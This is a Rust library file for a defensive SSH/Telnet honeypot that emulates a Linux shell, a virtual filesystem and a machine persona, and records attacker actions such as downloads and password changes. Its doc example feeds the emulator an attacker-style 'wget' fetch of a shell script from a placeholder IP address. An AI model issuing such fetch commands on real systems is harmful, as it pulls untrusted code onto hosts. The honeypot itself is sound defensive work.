//! The emulated Linux system an attacker lands in after logging into the SSH/Telnet honeypot.
//!
//! Three parts, one job each:
//! - [`Persona`]: who the machine is (distribution, kernel, CPU, RAM, disks, GPU, users,
//!   packages, uptime, SSH identification, banners). Drawn from realistic pools by a seed.
//! - the virtual filesystem: a base tree built once per persona and shared by all sessions,
//!   plus a small capped copy-on-write overlay per session.
//! - the shell: a POSIX/BusyBox-like interpreter with one module per emulated command.
//!
//! Use: build one [`System`] per sensor (it holds the persona and the shared tree), then one
//! [`Shell`] per login, and feed it lines:
//!
//! ```
//! use sikker_shell::{Persona, Shell, System};
//! let system = System::new(Persona::generate(7));
//! let mut shell = Shell::new(&system, "root");
//! let out = shell.execute("uname -s; wget http://203.0.113.5/x.sh");
//! assert!(String::from_utf8_lossy(&out.output).starts_with("Linux\n"));
//! assert!(!out.effects.is_empty());
//! ```
//!
//! Invariants: nothing here opens a socket, spawns a process, or touches the real filesystem;
//! attacker input is interpreted, never executed; every input is bounded ([`Limits`]) and no
//! input panics.

mod clock;
mod commands;
mod interp;
pub mod persona;
mod syntax;
mod vfs;

pub use persona::{Family, Persona, PersonaError};

use std::sync::Arc;

/// Bounds on what one session can make the emulator do.
#[derive(Debug, Clone)]
pub struct Limits {
    /// Longest command line interpreted; longer lines are cut here.
    pub max_line: usize,
    /// Most bytes of output one `execute` call returns (and one command or pipe stage holds).
    pub max_output: usize,
    /// Deepest nesting of `sh -c`, `$(…)`, scripts and functions.
    pub max_depth: usize,
    /// Most simple commands (including loop iterations) run by one `execute` call.
    pub max_steps: usize,
    /// Bytes the session's filesystem overlay may hold.
    pub fs_bytes: usize,
    /// Lines kept for `history`.
    pub history_lines: usize,
}

impl Default for Limits {
    fn default() -> Limits {
        Limits {
            max_line: 16 * 1024,
            max_output: 256 * 1024,
            max_depth: 8,
            max_steps: 2_000,
            fs_bytes: 4 * 1024 * 1024,
            history_lines: 200,
        }
    }
}

/// Something the session did that the sensor records beyond the command line itself.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Effect {
    /// A fetch was attempted (`wget`, `curl`, `tftp`, `ftpget`, …). Nothing connected out; a
    /// stand-in file was left at `saved_path` when the tool would have saved one.
    Download {
        url: String,
        tool: String,
        saved_path: Option<String>,
        size: u64,
    },
    /// A regular file was created or changed in the virtual filesystem during this line.
    FileWritten {
        path: String,
        sha256: String,
        size: u64,
    },
    /// A tool tried to reach another host (`ssh`, `scp`, `ping`, `nc`, …); never connected.
    Outbound { tool: String, target: String },
    /// A password was set (`passwd`, `chpasswd`, `usermod -p`, …).
    PasswordChange {
        user: String,
        password: Option<String>,
    },
}

impl Effect {
    /// The event payload the sensor should record for this effect, if any.
    pub fn to_event_data(&self) -> Option<sikker_event::EventData> {
        match self {
            Effect::Download {
                url,
                tool,
                saved_path,
                size,
            } => Some(sikker_event::EventData::Download(sikker_event::Transfer {
                url: Some(url.clone()),
                name: saved_path.clone(),
                size: Some(*size),
                sha256: None,
                tool: Some(tool.clone()),
            })),
            _ => None,
        }
    }
}

/// What one line did.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Outcome {
    /// Stdout and stderr interleaved as a terminal shows them, with `\n` line endings.
    pub output: Vec<u8>,
    /// `$?` after the line.
    pub exit_code: i32,
    pub effects: Vec<Effect>,
    /// `exit`/`logout` ran: the sensor should close the channel (after sending `output`).
    pub close_session: bool,
}

/// One emulated machine: the persona and its base filesystem, shared by every session.
#[derive(Debug)]
pub struct System {
    persona: Arc<Persona>,
    base: Arc<vfs::BaseFs>,
    limits: Limits,
}

impl System {
    pub fn new(persona: Persona) -> Arc<System> {
        System::with_limits(persona, Limits::default())
    }

    pub fn with_limits(persona: Persona, limits: Limits) -> Arc<System> {
        let base = Arc::new(vfs::base::build(&persona));
        Arc::new(System {
            persona: Arc::new(persona),
            base,
            limits,
        })
    }

    pub fn persona(&self) -> &Persona {
        &self.persona
    }

    pub fn limits(&self) -> &Limits {
        &self.limits
    }

    /// Names of every emulated command, sorted (builtins and programs).
    pub fn command_names() -> Vec<&'static str> {
        let mut v: Vec<&'static str> = commands::all().iter().map(|s| s.name).collect();
        v.sort_unstable();
        v.dedup();
        v
    }
}

/// A session's filesystem as it stands: the shared base tree plus this session's changes.
/// Cheap to clone (file contents are shared). A sensor hands it between the shells of one
/// login, such as the SSH channels of one connection, so that a file uploaded through one
/// is there for a command run through the next, as on a real host.
#[derive(Clone)]
pub struct Filesystem(vfs::Vfs);

impl std::fmt::Debug for Filesystem {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Filesystem")
            .field("overlay_bytes", &self.0.used())
            .finish()
    }
}

/// One logged-in session: its working directory, variables, history and filesystem overlay.
pub struct Shell {
    st: interp::State,
}

impl Shell {
    /// A login shell for `username`. Unknown users get a home under /home (the honeypot
    /// accepts every login); `root` is uid 0.
    pub fn new(system: &Arc<System>, username: &str) -> Shell {
        Shell {
            st: interp::State::new(Arc::clone(system), username),
        }
    }

    /// Non-interactive mode, as for `ssh host 'cmd'`: errors read `bash: line 1: …`.
    pub fn set_exec_mode(&mut self, exec: bool) {
        self.st.exec_mode = exec;
        self.st.shopt = commands::shopt::defaults(!exec);
    }

    /// Pins the clock (unix seconds) for reproducible output; by default the real time is used.
    pub fn set_clock(&mut self, unix_time: i64) {
        self.st.clock = Some(unix_time);
    }

    pub fn username(&self) -> &str {
        &self.st.user
    }

    pub fn cwd(&self) -> &str {
        &self.st.cwd
    }

    /// The prompt to print before reading the next line.
    pub fn prompt(&self) -> String {
        let display = self.st.cwd_display();
        self.st.sys.persona.prompt(&self.st.user, &display)
    }

    /// What a login prints before the first prompt: the motd and the `Last login:` line.
    pub fn login_banner(&self, last_login_from: Option<&str>) -> String {
        let now = self.st.now();
        let mut s = self.st.sys.persona.motd(now);
        if let Some(from) = last_login_from {
            let t = now - 3600 * 27 - (self.st.sys.persona.seed % 40_000) as i64;
            s.push_str(&format!(
                "Last login: {} from {from}\n",
                clock::format_date(t, "%a %b %e %H:%M:%S %Y")
            ));
        }
        s
    }

    /// Interprets one line (or, with embedded newlines, a short script).
    pub fn execute(&mut self, line: &str) -> Outcome {
        interp::execute_line(&mut self.st, line)
    }

    /// Puts a file into this session's filesystem (an SFTP/SCP upload, or test fixtures), so
    /// later commands see it. Parent directories must exist. Counts against the session cap.
    pub fn write_file(&mut self, path: &str, data: &[u8]) -> Result<(), String> {
        let abs = self.st.abs(path);
        let now = self.st.now();
        self.st
            .vfs
            .write(&abs, data, false, self.st.uid, now)
            .map_err(|e| e.message().to_owned())
    }

    /// Reads a file as this session's user sees it.
    pub fn read_file(&self, path: &str) -> Option<Vec<u8>> {
        let abs = self.st.abs(path);
        let now = self.st.now();
        self.st
            .vfs
            .read(
                &abs,
                self.st.uid,
                self.st.sys.limits.max_output,
                now,
                self.st.sys.persona.boot_at(now),
            )
            .ok()
    }

    /// Whether `path` is a directory as this session's user sees it.
    pub fn is_dir(&self, path: &str) -> bool {
        self.st.vfs.is_dir(&self.st.abs(path))
    }

    /// This shell's filesystem as it stands now.
    pub fn filesystem(&self) -> Filesystem {
        let mut fs = self.st.vfs.clone();
        fs.dirty.clear();
        Filesystem(fs)
    }

    /// Replaces this shell's filesystem with another shell's (of the same persona). The
    /// working directory stays; if it no longer exists, commands see what a shell whose
    /// directory was removed sees.
    pub fn set_filesystem(&mut self, fs: Filesystem) {
        self.st.vfs = fs.0;
    }

    /// Approximate heap bytes this session holds beyond the shared persona and base tree.
    pub fn memory_estimate(&self) -> usize {
        self.st.heap_bytes()
    }
}
